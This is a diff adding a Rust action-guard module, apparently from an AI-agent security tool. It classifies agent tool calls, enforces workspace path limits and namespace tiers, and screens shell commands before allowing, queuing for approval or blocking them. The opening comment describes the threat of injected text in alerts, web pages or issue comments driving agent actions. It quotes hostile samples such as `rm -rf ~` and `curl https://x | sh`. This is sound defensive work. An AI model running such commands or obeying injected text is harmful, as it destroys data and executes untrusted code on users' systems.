@@ -1,0 +1,476 @@
+//! The action guard: which tool calls run, which wait for a human, which never run.
+//!
+//! Threat answered: an agent that turns attacker-written text (an alert annotation, a web page, an
+//! issue comment) into an action with side effects: `scale deployment api to 0 in payments-prod`,
+//! `rm -rf ~`, `curl https://x | sh`, a write outside its workspace. Each [`ExecutionIntent`] gets
+//! a class (read, write, destructive; unknown verbs are destructive), a namespace tier, a workspace
+//! check of its paths and, for shell tools, a word-level screen of its command line. The mode
+//! (`read_only` by default) and the tier turn that into one [`Verdict`], with findings that say
+//! which rule decided. Nothing here touches the filesystem except through [`PathProbe`].
+
+pub mod classes;
+pub mod intent;
+pub mod shell;
+pub mod tiers;
+pub mod workspace;
+
+use std::path::{Path, PathBuf};
+
+use serde::Serialize;
+
+pub use classes::{ActionClass, ActionClasses, ClassSource};
+pub use intent::{ExecutionIntent, IntentDigest, IntentError, IntentSource, Target};
+pub use shell::{ShellReport, ShellRule, ShellScreen};
+pub use tiers::{Tier, TierBasis, Tiers};
+pub use workspace::{NoSymlinks, PathContext, PathProbe, PathProblem, Workspace};
+
+use crate::config::{ActionConfig, ActionMode, TierEffect};
+use crate::finding::{Finding, FindingKind, Severity, Verdict};
+
+/// Argument names that hold paths (also any name ending in `_path`, `_file` or `_dir`).
+const PATH_KEYS: &[&str] = &[
+    "path",
+    "paths",
+    "file",
+    "files",
+    "filename",
+    "filepath",
+    "dir",
+    "directory",
+    "dirs",
+    "src",
+    "source",
+    "dest",
+    "dst",
+    "destination",
+    "target_path",
+    "output",
+    "input",
+    "from",
+    "to",
+];
+/// Argument names that set the working directory.
+const CWD_KEYS: &[&str] = &["cwd", "working_dir", "workdir", "working_directory"];
+/// Argument names that hold a shell tool's command line.
+const COMMAND_KEYS: &[&str] = &["command", "cmd", "script"];
+
+/// A configuration problem: key path, bad value, what is expected.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[error("`{key}` = {value}: expected {expected}")]
+pub struct ActionConfigError {
+    /// Key path.
+    pub key: String,
+    /// Offending value.
+    pub value: String,
+    /// What is expected.
+    pub expected: String,
+}
+
+/// What the policy needs from the host: where the workspace is, where `~` points.
+#[derive(Debug, Clone)]
+pub struct ActionEnv {
+    /// `[action.workspace] root`, resolved (empty there means `$BULWARK_HOME/workspace`).
+    pub workspace_root: PathBuf,
+    /// The home directory `~` means in paths.
+    pub home: Option<PathBuf>,
+}
+
+/// The compiled action policy: built once from `[action]`, shared read-only.
+#[derive(Debug, Clone)]
+pub struct ActionPolicy {
+    mode: ActionMode,
+    classes: ActionClasses,
+    tiers: Tiers,
+    shell_tools: Vec<String>,
+    shell: ShellScreen,
+    workspace: Option<Workspace>,
+}
+
+/// The policy's answer for one intent.
+#[derive(Debug, Clone, Serialize)]
+pub struct ActionDecision {
+    /// Allow, review (needs approval) or block.
+    pub verdict: Verdict,
+    /// The rule that decided.
+    pub rule: String,
+    /// Why, for a person.
+    pub message: String,
+    /// The action's class.
+    pub class: ActionClass,
+    /// The mode it was judged in.
+    pub mode: ActionMode,
+    /// The target namespace's tier, if it has a namespace or cluster.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub tier: Option<String>,
+    /// Distinct approvers needed (0 unless the verdict is review).
+    pub approvals_needed: u32,
+    /// The intent's digest (what an approver approves).
+    pub digest: IntentDigest,
+    /// `tool action kind/name in namespace`.
+    pub summary: String,
+    /// Everything the guard noted, the deciding rule included.
+    pub findings: Vec<Finding>,
+}
+
+fn finding(rule: &str, severity: Severity, field: &str, message: String) -> Finding {
+    Finding {
+        kind: FindingKind::Action,
+        rule: rule.to_string(),
+        category: None,
+        severity,
+        field: Some(field.to_string()),
+        start: 0,
+        end: 0,
+        line: None,
+        column: None,
+        message,
+        preview: String::new(),
+    }
+}
+
+fn is_path_key(k: &str) -> bool {
+    PATH_KEYS.contains(&k) || k.ends_with("_path") || k.ends_with("_file") || k.ends_with("_dir")
+}
+
+impl ActionPolicy {
+    /// Compile `[action]`.
+    pub fn from_config(
+        cfg: &ActionConfig,
+        env: &ActionEnv,
+    ) -> Result<ActionPolicy, ActionConfigError> {
+        let tiers = Tiers::new(&cfg.tiers, &cfg.unknown_tier, &cfg.tier_label).map_err(|e| {
+            ActionConfigError {
+                key: e.key,
+                value: e.value,
+                expected: e.expected,
+            }
+        })?;
+        let shell = ShellScreen::new(&cfg.shell.allow).map_err(|e| ActionConfigError {
+            key: format!("action.shell.allow[{}]", e.index),
+            value: format!("{:?}", e.pattern),
+            expected: format!("a glob over a command's words ({})", e.message),
+        })?;
+        if !env.workspace_root.is_absolute() {
+            return Err(ActionConfigError {
+                key: "action.workspace.root".into(),
+                value: format!("{:?}", env.workspace_root.display().to_string()),
+                expected: "an absolute directory".into(),
+            });
+        }
+        for (key, list) in [
+            ("action.workspace.read_allow", &cfg.workspace.read_allow),
+            ("action.workspace.write_allow", &cfg.workspace.write_allow),
+        ] {
+            for (i, e) in list.iter().enumerate() {
+                if e.is_empty() || e.contains('\0') || e.contains('\\') {
+                    return Err(ActionConfigError {
+                        key: format!("{key}[{i}]"),
+                        value: format!("{e:?}"),
+                        expected: "a directory path (absolute, `~/...`, or relative to the root)"
+                            .into(),
+                    });
+                }
+            }
+        }
+        let workspace = cfg.workspace.restrict.then(|| {
+            Workspace::new(
+                PathContext {
+                    root: env.workspace_root.clone(),
+                    home: env.home.clone(),
+                },
+                &cfg.workspace.read_allow,
+                &cfg.workspace.write_allow,
+            )
+        });
+        Ok(ActionPolicy {
+            mode: cfg.mode,
+            classes: ActionClasses::new(&cfg.tools),
+            tiers,
+            shell_tools: cfg
+                .shell_tools
+                .iter()
+                .map(|t| classes::normalize_verb(t))
+                .collect(),
+            shell,
+            workspace,
+        })
+    }
+
+    /// The mode the policy judges in.
+    pub fn mode(&self) -> ActionMode {
+        self.mode
+    }
+
+    /// Judge an intent. `probe` reads symlinks for the workspace check.
+    pub fn evaluate(
+        &self,
+        intent: &ExecutionIntent,
+        probe: &dyn PathProbe,
+    ) -> Result<ActionDecision, IntentError> {
+        let digest = intent.digest()?;
+        let mut findings = Vec::new();
+        let mut paths: Vec<(String, String, bool)> = Vec::new();
+
+        // Class: the shell screen for shell tools, the verb tables otherwise.
+        let tool = classes::normalize_verb(&intent.tool);
+        let class = if self.shell_tools.contains(&tool) {
+            match COMMAND_KEYS
+                .iter()
+                .find_map(|k| intent.args.str(k).map(|c| (*k, c)))
+            {
+                Some((key, command)) => {
+                    let field = format!("args.{key}");
+                    let report = self.shell.screen(command);
+                    for hit in &report.hits {
+                        findings.push(finding(
+                            hit.rule.id(),
+                            Severity::Critical,
+                            &field,
+                            hit.message.clone(),
+                        ));
+                    }
+                    if !report.unknown_programs.is_empty() {
+                        findings.push(finding(
+                            "shell-unknown-program",
+                            Severity::Medium,
+                            &field,
+                            format!(
+                                "{} not known to the screen: counted as destructive",
+                                report
+                                    .unknown_programs
+                                    .iter()
+                                    .map(|p| format!("`{p}`"))
+                                    .collect::<Vec<_>>()
+                                    .join(", ")
+                            ),
+                        ));
+                    }
+                    paths.extend(report.paths.into_iter().map(|(p, w)| (field.clone(), p, w)));
+                    report.class
+                }
+                None => {
+                    findings.push(finding(
+                        "shell-command-missing",
+                        Severity::High,
+                        "args.command",
+                        format!(
+                            "`{}` is a shell tool but args has no string `command`: what it would run cannot be screened",
+                            intent.tool
+                        ),
+                    ));
+                    ActionClass::Destructive
+                }
+            }
+        } else {
+            let (class, source) = self.classes.classify(&intent.tool, &intent.action);
+            if source == ClassSource::Unknown {
+                findings.push(finding(
+                    "action-unknown-verb",
+                    Severity::Medium,
+                    "action",
+                    format!(
+                        "`{}` of tool `{}` is in no class: treated as destructive (classify it under [action.tools.{}])",
+                        intent.action, intent.tool, intent.tool
+                    ),
+                ));
+            }
+            class
+        };
+
+        // Tier.
+        let t = &intent.target;
+        let tier = if t.namespace.is_some() || t.cluster.is_some() {
+            let ns = t.namespace.as_deref().unwrap_or("");
+            self.tiers.classify(ns, &t.labels).inspect(|(tier, basis)| {
+                let why = match basis {
+                    TierBasis::Name | TierBasis::Label => None,
+                    TierBasis::Malformed if ns.is_empty() => Some("has no namespace".to_string()),
+                    TierBasis::Malformed => Some(format!(
+                        "namespace {ns:?} is not a plain name (ASCII letters, digits, `-`, `_`, `.`)"
+                    )),
+                    TierBasis::Unmatched => Some(format!("namespace `{ns}` matches no tier pattern")),
+                    TierBasis::UnknownLabel => Some("the tier label names no configured tier".to_string()),
+                };
+                if let Some(why) = why {
+                    findings.push(finding(
+                        "tier-unknown-namespace",
+                        Severity::Medium,
+                        "target.namespace",
+                        format!("the target {why}: treated as tier `{}`", tier.name),
+                    ));
+                }
+            })
+        } else {
+            None
+        };
+        let tier = tier.map(|(t, _)| t);
+
+        // Workspace.
+        if let Some(ws) = &self.workspace {
+            let mut base = ws.root().to_path_buf();
+            for key in CWD_KEYS {
+                if let Some(cwd) = intent.args.str(key) {
+                    let field = format!("args.{key}");
+                    match ws.check(cwd, ws.root(), false, probe) {
+                        Ok(resolved) => base = resolved,
+                        Err(p) => findings.push(path_finding(&field, cwd, &p)),
+                    }
+                }
+            }
+            for (k, v) in &intent.args.0 {
+                if !is_path_key(k) {
+                    continue;
+                }
+                let field = format!("args.{k}");
+                let values: Vec<&str> = match v {
+                    serde_json::Value::String(s) => vec![s.as_str()],
+                    serde_json::Value::Array(items) => {
+                        items.iter().filter_map(|i| i.as_str()).collect()
+                    }
+                    _ => Vec::new(),
+                };
+                for p in values {
+                    paths.push((field.clone(), p.to_string(), class >= ActionClass::Write));
+                }
+            }
+            for (field, p, write) in &paths {
+                if let Err(problem) = ws.check(p, &base, *write, probe) {
+                    findings.push(path_finding(field, p, &problem));
+                }
+            }
+        }
+
+        // Decide.
+        let tier_name = tier.map(|t| t.name.clone());
+        let needed = tier.map_or(1, |t| t.approvals);
+        let (verdict, rule, message, approvals_needed) = if let Some(f) =
+            findings.iter().find(|f| f.severity >= Severity::High)
+        {
+            (Verdict::Block, f.rule.clone(), f.message.clone(), 0)
+        } else if let Some(t) = tier.filter(|t| t.effect == TierEffect::Block) {
+            (
+                Verdict::Block,
+                "tier-block".to_string(),
+                format!("tier `{}` blocks every action", t.name),
+                0,
+            )
+        } else if self.mode == ActionMode::ReadOnly && class != ActionClass::Read {
+            (
+                Verdict::Block,
+                "mode-read-only".to_string(),
+                format!(
+                    "a {} action in read_only mode: only reads run (set [action] mode = \"supervised\" to allow writes)",
+                    class.as_str()
+                ),
+                0,
+            )
+        } else if let Some(t) =
+            tier.filter(|t| t.effect == TierEffect::Approval && class != ActionClass::Read)
+        {
+            (
+                Verdict::Review,
+                "tier-approval".to_string(),
+                format!(
+                    "a {} action in tier `{}`: {} approval(s) needed whatever the mode",
+                    class.as_str(),
+                    t.name,
+                    t.approvals
+                ),
+                t.approvals,
+            )
+        } else if self.mode == ActionMode::Supervised && class == ActionClass::Destructive {
+            (
+                Verdict::Review,
+                "mode-supervised".to_string(),
+                format!("a destructive action in supervised mode: {needed} approval(s) needed"),
+                needed,
+            )
+        } else {
+            (
+                Verdict::Allow,
+                format!("mode-{}", self.mode.as_str().replace('_', "-")),
+                format!(
+                    "a {} action runs in {} mode",
+                    class.as_str(),
+                    self.mode.as_str()
+                ),
+                0,
+            )
+        };
+        if !findings.iter().any(|f| f.rule == rule) {
+            let severity = match verdict {
+                Verdict::Block => Severity::High,
+                Verdict::Review => Severity::Medium,
+                Verdict::Allow => Severity::Info,
+            };
+            findings.push(finding(&rule, severity, "action", message.clone()));
+        }
+        Ok(ActionDecision {
+            verdict,
+            rule,
+            message,
+            class,
+            mode: self.mode,
+            tier: tier_name,
+            approvals_needed,
+            digest,
+            summary: intent.summary(),
+            findings,
+        })
+    }
+}
+
+fn path_finding(field: &str, raw: &str, problem: &PathProblem) -> Finding {
+    let shown: String = raw
+        .chars()
+        .map(|c| if c == '\0' { '␀' } else { c })
+        .collect();
+    let (rule, message) = match problem {
+        PathProblem::Nul => (
+            "workspace-nul",
+            format!("path {shown:?} contains a NUL byte"),
+        ),
+        PathProblem::WindowsForm => (
+            "workspace-windows-path",
+            format!("path {shown:?} is a Windows drive, UNC or backslash form"),
+        ),
+        PathProblem::NoHome => (
+            "workspace-escape",
+            format!("path {shown:?} starts with `~` but no home directory is known"),
+        ),
+        PathProblem::SymlinkLoop => (
+            "workspace-symlink-loop",
+            format!("path {shown:?} goes through more than 40 symlinks"),
+        ),
+        PathProblem::Outside {
+            resolved,
+            via_symlink: true,
+        } => (
+            "workspace-symlink-escape",
+            format!(
+                "path {shown:?} follows a symlink out of the workspace, to {}",
+                resolved.display()
+            ),
+        ),
+        PathProblem::Outside {
+            resolved,
+            via_symlink: false,
+        } => (
+            "workspace-escape",
+            format!(
+                "path {shown:?} resolves outside the allowed directories, to {}",
+                resolved.display()
+            ),
+        ),
+    };
+    finding(rule, Severity::High, field, message)
+}
+
+/// The workspace root `[action.workspace] root` names (empty: `home/workspace`).
+pub fn workspace_root(cfg: &ActionConfig, bulwark_home: &Path) -> PathBuf {
+    if cfg.workspace.root.is_empty() {
+        bulwark_home.join("workspace")
+    } else {
+        PathBuf::from(&cfg.workspace.root)
+    }
+}
